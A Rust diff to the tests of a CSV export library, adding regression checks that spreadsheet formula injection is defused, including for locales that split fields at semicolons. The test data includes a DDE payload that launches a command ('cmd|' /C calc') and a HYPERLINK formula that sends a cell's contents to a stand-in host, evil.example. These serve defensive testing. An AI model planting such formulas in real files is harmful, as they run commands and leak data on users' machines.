@@ -61,6 +61,10 @@ fn awkward_values() -> Vec<String> {
         "x".repeat(8 * 1024),
         "<b>not markup</b> & ampersand".into(),
         " leading and trailing spaces ".into(),
+        "semi;colon and comma,".into(),
+        // A formula after a separator, live in a spreadsheet that splits at `;` or `,`.
+        "x;=1+cmd|' /C calc'!A0".into(),
+        "a,@SUM(1);-2".into(),
     ];
     for start in RISKY_STARTS {
         v.push(format!("{start}HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"));
@@ -141,7 +145,7 @@ fn csv_round_trips_every_value_and_defuses_formulas() {
             assert!(!is_risky(field), "a CSV field a spreadsheet would run: {field:?}");
             let text = cell.display();
             if is_risky(&text) {
-                assert_eq!(field, format!("'{text}"));
+                assert_eq!(undefused(field), text);
                 defused += 1;
             } else {
                 assert_eq!(field, text);
@@ -151,6 +155,47 @@ fn csv_round_trips_every_value_and_defuses_formulas() {
     // Every risky start appears in names, remarks, region, OS and browser.
     assert!(defused >= RISKY_STARTS.len() * 2 * 5, "only {defused} cells were defused");
     assert_eq!(&rows[0][1], "2026-11-01 05:45:30 +05:30", "dates carry the tenant's offset");
+}
+
+/// A CSV field without the `'` written before each piece that starts like a formula.
+fn undefused(field: &str) -> String {
+    let mut out = String::new();
+    let mut piece_start = true;
+    let mut chars = field.chars().peekable();
+    while let Some(c) = chars.next() {
+        let formula_next = chars.peek().is_some_and(|n| "=+-@\t\r\n".contains(*n));
+        if !(piece_start && c == '\'' && formula_next) {
+            out.push(c);
+        }
+        piece_start = c == ',' || c == ';';
+    }
+    out
+}
+
+/// Splits a CSV line as a spreadsheet whose list separator is `;` does: at every `;`, a quote
+/// honoured only at the start of a field.
+fn split_at_semicolons(line: &str) -> Vec<String> {
+    let mut reader =
+        csv::ReaderBuilder::new().delimiter(b';').has_headers(false).flexible(true).from_reader(line.as_bytes());
+    reader.records().flat_map(|r| r.unwrap().iter().map(String::from).collect::<Vec<_>>()).collect()
+}
+
+/// Regression: in a `;`-separator locale `x;=1+cmd|...` opened as a live formula. Read every
+/// line of the file as such a spreadsheet reads it: no piece starts like a formula.
+#[test]
+fn csv_has_no_formula_for_a_semicolon_separator_either() {
+    let view = View::new(ViewKind::Activity, tz());
+    let bytes = run(Format::Csv, &view, &events());
+    let text = String::from_utf8(bytes).unwrap();
+    let mut pieces = 0;
+    for line in text.split('\n') {
+        for piece in split_at_semicolons(line) {
+            assert!(!is_risky(piece.trim_start_matches('"')), "a piece a spreadsheet would run: {piece:?}");
+            pieces += 1;
+        }
+    }
+    assert!(text.contains("\"x;'=1+cmd|' /C calc'!A0\""), "quoted, the piece defused");
+    assert!(pieces > text.lines().count());
 }
 
 #[test]
@@ -289,20 +334,44 @@ fn rows_rendered_apart_make_the_file_the_writer_makes() {
 fn csv_bytes_are_the_csv_crates() {
     let view = View::new(ViewKind::Activity, tz());
     let events = events();
-    let mut w = csv::Writer::from_writer(Vec::new());
-    w.write_record(view.columns().iter().map(|c| c.title)).unwrap();
+    let mut theirs = Vec::new();
+    csv_crate_record(view.columns().iter().map(|c| c.title.to_owned()), &mut theirs);
     for cells in expected(&view, &events) {
-        let fields: Vec<String> = cells
-            .iter()
-            .map(|c| match c {
-                Cell::Text(s) => trail_export::safety::neutralise(s).into_owned(),
-                other => other.display().into_owned(),
-            })
-            .collect();
-        w.write_record(&fields).unwrap();
+        let fields = cells.iter().map(|c| match c {
+            Cell::Text(s) => trail_export::safety::neutralise(s).into_owned(),
+            other => other.display().into_owned(),
+        });
+        csv_crate_record(fields, &mut theirs);
     }
-    let theirs = w.into_inner().unwrap();
     assert_same_bytes(&run(Format::Csv, &view, &events), &theirs, "CSV beside the csv crate's");
+}
+
+/// A record as the csv crate writes it, each field quoted as the crate would quote it with `,`
+/// or `;` as the delimiter (Trail quotes both separators, for spreadsheets of either locale).
+fn csv_crate_record(fields: impl Iterator<Item = String>, out: &mut Vec<u8>) {
+    let mut encoded = Vec::new();
+    for field in fields {
+        if field.is_empty() {
+            encoded.push(Vec::new()); // a record of one empty field is a special case below
+            continue;
+        }
+        let quoted_with = |delimiter: u8| {
+            let mut w = csv::WriterBuilder::new().delimiter(delimiter).from_writer(Vec::new());
+            w.write_record([&field, "x"]).unwrap();
+            w.into_inner().unwrap().first() == Some(&b'"')
+        };
+        let style =
+            if quoted_with(b',') || quoted_with(b';') { csv::QuoteStyle::Always } else { csv::QuoteStyle::Necessary };
+        let mut w = csv::WriterBuilder::new().quote_style(style).from_writer(Vec::new());
+        // A record of the field alone (a lone field's closing quote is written only when the
+        // record ends), without its line end.
+        w.write_record([&field]).unwrap();
+        let mut one = w.into_inner().unwrap();
+        one.pop();
+        encoded.push(one);
+    }
+    out.extend_from_slice(&encoded.join(&b','));
+    out.push(b'\n');
 }
 
 /// Two files' bytes are the same (on a difference, says where rather than printing both).
